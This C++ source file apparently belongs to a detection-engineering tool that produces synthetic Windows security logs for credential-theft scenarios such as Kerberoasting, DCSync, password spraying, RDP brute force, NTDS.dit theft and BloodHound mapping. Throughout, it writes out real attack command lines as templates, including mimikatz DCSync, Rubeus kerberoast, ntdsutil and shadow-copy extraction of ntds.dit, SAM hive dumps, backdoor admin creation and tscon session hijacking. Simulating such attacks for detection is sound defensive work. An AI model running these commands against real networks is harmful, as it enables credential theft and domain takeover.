// SPDX-License-Identifier: Apache-2.0
//
// Identity: guessing, roasting, replicating, copying the directory, and moving with what was found.
#include <fmt/format.h>

#include "stages/produce/synthetic/attack/moves.h"
#include "stages/produce/synthetic/log/security.h"
#include "stages/produce/synthetic/log/sysmon.h"

namespace tocsin::synthetic {
namespace {

void kerberoast(Attack& a) {
  Person& person = a.victim();
  const Process shell = a.open(person, "powershell");
  a.step("discovery", "T1087.002");
  if (a.chance(50))
    a.run(shell, "setspn", {R"(setspn -T {dns} -Q */*)", R"(setspn.exe -F -Q MSSQLSvc/*)"},
          {"net {dc}:389"});
  else
    a.run_tool(
        shell, R"({dropdir}\{adfindname}.exe)", a.chance(60) ? "AdFind.exe" : "-",
        {R"~({adfindname}.exe -f "(&(objectCategory=person)(servicePrincipalName=*))" -csv)~",
         R"({adfindname}.exe -sc trustdmp)"},
        {"net {dc}:389"});
  a.pause(20, 90);
  a.step("credential-access", "T1558.003");
  if (a.chance(60))
    a.does(shell, {"script Invoke-Kerberoast -OutputFormat Hashcat | fl",
                   "script Add-Type -AssemblyName System.IdentityModel; New-Object "
                   "System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "
                   "'MSSQLSvc/{sql}.{dns}:1433'"});
  else
    a.run_tool(shell, R"({dropdir}\{rubeusname}.exe)", a.chance(60) ? "Rubeus.exe" : "-",
               {R"({rubeusname}.exe kerberoast /nowrap /outfile:{dropdir}\{h6}.txt)",
                R"({rubeusname}.exe {h4} -r -o {h6}.log)"},
               {"net {dc}:88"});
  for (const Account& service : a.world.estate.services) {
    security::service_ticket(a.world, a.at, *person.account, *person.doer.host, service.name, 0x17);
    a.pause(0, 2);
  }
  if (a.chance(50)) {
    a.step("credential-access", "T1558.004");
    security::ticket_granted(a.world, a.at, a.world.estate.services[0], *person.doer.host, 0x17,
                             false);
  }
  a.pause(120, 400);
  const Process remote =
      moves::spread(a, shell, a.world.estate.service("svc-sql"), a.server(kSqlServer));
  moves::discover(a, remote);
  moves::collect(a, remote);
}

void dcsync(Attack& a) {
  Person& person = a.victim(kAdmin);
  const Process shell = a.open(person, "admincmd");
  a.step("persistence", "T1098.007");
  Estate& estate = a.world.estate;
  const Account& accomplice = estate.users[a.world.rng.below(estate.users.size())];
  a.let("accomplice", accomplice.name);
  a.run(shell, "net",
        {R"(net group "Domain Admins" {accomplice} /add /domain)",
         R"(net  group "Enterprise Admins" {accomplice} /ADD /DOMAIN)"});
  security::group_member_added(a.world, a.at, a.server(kDomainController), Kind::k4728, shell.logon,
                               accomplice.name, accomplice.sid, "Domain Admins",
                               estate.domain_sid + "-512");
  a.pause(30, 150);
  a.step("credential-access", "T1003.006");
  const Process tool =
      a.run_tool(shell, R"({dropdir}\{miminame}.exe)", a.chance(50) ? "mimikatz.exe" : "-",
                 {R"({miminame}.exe "lsadump::dcsync /domain:{dns} /user:krbtgt" exit)",
                  R"({miminame}.exe {h6} {dns})"},
                 {"net {dc}:135", "net {dc}:49667"});
  const Logon logon =
      network_logon(a.world, a.at, accomplice, *person.doer.host, estate.server(kDomainController));
  for (int i = 0; i < 3; ++i)
    security::directory_access(a.world, a.at + i * 40 * kMillisecond, logon,
                               "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                               i == 2 ? "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
                                        "\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}"
                                      : "%%7688\r\n\t\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"
                                        "\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                               0x100);
  a.pause(60, 200);
  a.step("lateral-movement", "T1550.003");
  a.does(tool, {"net {dc}:88"});
  security::service_ticket(a.world, a.at, accomplice, *person.doer.host, "krbtgt", 0x17);
  moves::spread(a, shell, accomplice, a.server(kDomainController));
}

void password_spray(Attack& a) {
  Estate& estate = a.world.estate;
  Person& person = a.victim();
  Host& from = *person.doer.host;
  a.step("credential-access", "T1110.003");
  const bool kerberos = a.chance(50);
  for (int round = 0; round < 2; ++round)
    for (const Account& user : estate.users) {
      if (kerberos)
        security::preauth_failed(a.world, a.at, user.name, from.ip);
      else {
        security::ntlm_checked(a.world, a.at, user.name, from.name, 0xc000006a);
        security::logon_failed(a.world, a.at + kMillisecond, a.server(kFileServer), user.name, 3,
                               from.ip, from.name, false);
      }
      a.at += a.world.rng.range(80, 900) * kMillisecond;
    }
  a.pause(30, 120);
  const Account& fallen = estate.users[a.world.rng.below(estate.users.size())];
  a.step("initial-access", "T1078.002");
  const Logon logon = network_logon(a.world, a.at, fallen, from, a.server(kFileServer), "NTLM");
  a.step("discovery", "T1135");
  for (const std::string_view share : {"Finance", "HR", "Legal", "Engineering"}) {
    security::share_opened(a.world, a.at, a.server(kFileServer), logon, from, share);
    a.at += 700 * kMillisecond;
  }
  a.step("collection", "T1039");
  for (int i = 0; i < 8; ++i) {
    security::share_file(a.world, a.at, a.server(kFileServer), logon, from, "Finance",
                         a.text("{topic}\\{doc}.{officeext}"), 0x120089);
    a.at += 900 * kMillisecond;
  }
}

void brute_force_rdp(Attack& a) {
  Host& jump = a.server(kJumpServer);
  a.let("attacker", "203.0.113.{n2}");
  const std::string attacker = a.text("{attacker}");
  a.step("credential-access", "T1110.001");
  for (int i = 0; i < 30; ++i) {
    const bool unknown = i % 3 == 0;
    security::logon_failed(a.world, a.at, jump,
                           unknown ? a.text("{guessname}") : a.text("{anyadmin}"),
                           a.chance(70) ? 3 : 10, attacker, "kali", unknown);
    a.at += a.world.rng.range(200, 1500) * kMillisecond;
  }
  a.step("lateral-movement", "T1021.001");
  auto& admins = a.world.estate.admins;
  const Account& fallen = admins[a.world.rng.below(admins.size())];
  a.scene.account = &fallen;
  const Logon logon{
      .account = &fallen, .id = jump.take_logon(a.world.rng.next()), .start = a.at, .terminal = 7};
  security::logged_on(a.world, a.at, jump,
                      {.logon = logon,
                       .type = 10,
                       .package = "Negotiate",
                       .process = "-",
                       .from = nullptr,
                       .from_ip = attacker,
                       .from_name = "kali"});
  security::privileges(a.world, a.at + kMillisecond, jump, logon);
  a.pause(20, 60);
  const Process shell = a.run_as(a.at_host(jump, "userinit"), logon, "High", "cmd",
                                 {R"("C:\Windows\system32\cmd.exe" )"});
  moves::discover(a, shell);
  a.step("persistence", "T1136.001");
  a.let("backdoor", "{backdoor}");
  a.run(shell, "net",
        {"net user {backdoor} {password} /add", R"(net.exe  user {backdoor} {password} /ADD /Y)"});
  const std::string sid =
      fmt::format("S-1-5-21-{}-{}-1003", 1000000 + jump.machine_id, 2000000 + jump.machine_id / 2);
  security::account_changed(a.world, a.at, jump, Kind::k4720, logon, a.text("{backdoor}"), sid);
  security::account_changed(a.world, a.at + 5 * kMillisecond, jump, Kind::k4738, logon,
                            a.text("{backdoor}"), sid);
  a.step("persistence", "T1098.007");
  a.run(shell, "net", {"net localgroup administrators {backdoor} /add"});
  security::group_member_added(a.world, a.at, jump, Kind::k4732, logon, a.text("{backdoor}"), sid,
                               "Administrators", "S-1-5-32-544");
  a.pause(20, 90);
  a.step("lateral-movement", "T1563.002");
  a.run(shell, "sc", {R"(sc create {h6} binpath= "cmd.exe /k tscon {n} /dest:rdp-tcp#{n2}")"});
  a.run_as(a.at_host(jump, "services"), a.system(), "System", "tscon",
           {"tscon {n} /dest:rdp-tcp#{n2}", R"(C:\Windows\system32\tscon.exe {n} /dest:console)"});
  moves::clear_logs(a, shell);
}

void ntds_theft(Attack& a) {
  Host& dc = a.server(kDomainController);
  auto& admins = a.world.estate.admins;
  const Account& admin = admins[a.world.rng.below(admins.size())];
  a.scene.account = &admin;
  Host& from = a.elsewhere(dc);
  a.step("lateral-movement", "T1021.006");
  const Logon logon = network_logon(a.world, a.at, admin, from, dc);
  const Process winrm = a.run_as(a.at_host(dc, "svchost.dcom"), logon, "High", "wsmprovhost",
                                 {R"(C:\Windows\system32\wsmprovhost.exe -Embedding)"});
  a.pause(10, 60);
  a.step("credential-access", "T1003.003");
  a.let("dir", R"(C:\Windows\Temp\{h6})");
  switch (a.world.rng.below(3)) {
    case 0:
      a.run(winrm, "ntdsutil",
            {R"(ntdsutil "ac i ntds" "ifm" "create full {dir}" q q)",
             R"(ntdsutil.exe "activate instance ntds" ifm "create full {dir}" quit quit)"},
            {R"(file {dir}\Active Directory\ntds.dit)", R"(file {dir}\registry\SYSTEM)"});
      break;
    case 1:
      a.run(winrm, "vssadmin",
            {"vssadmin create shadow /for=C:", "vssadmin.exe  Create Shadow /for=c: /autoretry=5"});
      a.run(
          winrm, "cmd",
          {R"(cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows\NTDS\ntds.dit {dir}.dit)"},
          {R"(file {dir}.dit)"});
      break;
    default: {
      const Process copy = a.run(winrm, "esentutl",
                                 {R"(esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d {dir}.bin)"},
                                 {R"(file {dir}.bin)"});
      sysmon::raw_read(a.world, a.at, copy, R"(\Device\HarddiskVolumeShadowCopy3)");
    }
  }
  a.step("credential-access", "T1003.002");
  a.run(winrm, "reg",
        {R"(reg save HKLM\SYSTEM {dir}\sys.hiv /y)", R"(reg.exe save hklm\sam {dir}\{h4}.dat)"},
        {R"(file {dir}\sys.hiv)"});
  const Process cmd = a.run(winrm, "cmd", {"cmd.exe"});
  moves::collect(a, cmd);
  moves::exfiltrate(a, cmd);
  a.step("stealth", "T1070.004");
  a.run(cmd, "cmd", {R"(cmd /c rmdir /s /q {dir})", R"(cmd.exe /c del /f /q {dir}*)"},
        {R"(del {dir}.dit)"});
}

void graph_collection(Attack& a) {
  Person& person = a.victim();
  const Process shell = a.open(person, "cmd");
  a.step("discovery", "T1087.002");
  a.let("hound", "{houndname}");
  const Process hound =
      a.chance(60)
          ? a.run_tool(
                shell, R"({dropdir}\{hound}.exe)", a.chance(60) ? "SharpHound.exe" : "-",
                {R"({hound}.exe -c All --zipfilename {h6}.zip)",
                 R"({hound}.exe --CollectionMethods DCOnly,Session --OutputDirectory {dropdir} --Throttle {n3})",
                 R"({hound}.exe -d {dns} -q {h4})"})
          : a.run(
                shell, "powershell",
                {R"(powershell -ep bypass -c "Import-Module .\{h4}.ps1; Invoke-BloodHound -CollectionMethod All")"},
                {"script Invoke-BloodHound -CollectionMethod All -CompressData -ZipFileName "
                 "{h6}.zip"});
  for (int i = 0; i < 3; ++i) a.does(hound, {"net {dc}:389", "dns {anyhost}.{dns}"});
  a.step("discovery", "T1069.002");
  Host& dc = a.server(kDomainController);
  const Logon logon = network_logon(a.world, a.at, *person.account, *person.doer.host, dc);
  for (const std::string_view pipe : {"samr", "lsarpc", "srvsvc", "wkssvc", "winreg"}) {
    security::share_file(a.world, a.at, dc, logon, *person.doer.host, "IPC$", pipe, 0x12019f);
    a.at += 150 * kMillisecond;
  }
  a.step("discovery", "T1018");
  std::size_t probed = 0;
  for (Host& host : a.world.estate.hosts) {
    if (&host == person.doer.host || ++probed > 12) continue;
    sysmon::network(
        a.world, a.at, hound,
        {.source = {person.doer.host->ip, person.doer.host->fqdn, person.doer.host->take_port()},
         .destination = {host.ip, host.fqdn, 445}});
    a.at += 120 * kMillisecond;
  }
  a.step("collection", "T1560");
  a.does(hound, {R"(file {dropdir}\{year}{month}{day}{n5}_BloodHound.zip)",
                 R"(file {dropdir}\{year}{month}{day}{n5}_computers.json)"});
  moves::exfiltrate(a, shell);
}

constexpr Scenario kScenarios[] = {
    {"kerberoast", "Service tickets with weak encryption, cracked and used", kerberoast},
    {"dcsync", "A new domain administrator replicates the password hashes", dcsync},
    {"password-spray", "One password tried on everybody, then the shares", password_spray},
    {"brute-force-rdp", "Guessing at the jump server, a hidden account, a stolen session",
     brute_force_rdp},
    {"ntds-theft", "The directory database leaves the domain controller", ntds_theft},
    {"graph-collection", "The domain mapped in minutes", graph_collection},
};

}  // namespace

std::span<const Scenario> credential_scenarios() { return kScenarios; }

}  // namespace tocsin::synthetic
